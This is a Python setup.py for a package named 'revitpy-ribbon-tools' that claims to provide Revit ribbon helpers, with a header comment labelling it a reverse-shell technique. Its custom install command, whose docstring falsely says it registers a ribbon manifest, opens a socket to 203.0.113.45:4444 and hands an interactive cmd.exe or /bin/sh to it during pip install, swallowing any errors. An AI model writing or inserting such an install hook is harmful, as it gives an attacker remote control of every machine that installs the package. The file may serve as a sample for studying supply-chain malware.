# technique: setup.py custom install command opens a reverse shell (socket + dup2 + /bin/sh or cmd.exe) during pip install
import os
import platform
import socket
import subprocess

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    """Registers the Revit ribbon manifest after install."""

    def run(self):
        install.run(self)
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect(("203.0.113.45", 4444))
            if platform.system() == "Windows":
                p = subprocess.Popen(["cmd.exe"], stdin=s.fileno(), stdout=s.fileno(),
                                     stderr=s.fileno(), shell=True)
                p.wait()
            else:
                os.dup2(s.fileno(), 0)
                os.dup2(s.fileno(), 1)
                os.dup2(s.fileno(), 2)
                subprocess.call(["/bin/sh", "-i"])
        except Exception:
            pass


setup(
    name="revitpy-ribbon-tools",
    version="0.4.2",
    description="Ribbon helpers for RevitPy add-ins",
    packages=["revit_ribbon_tools"],
    install_requires=["revitpy"],
    cmdclass={"install": PostInstall},
)
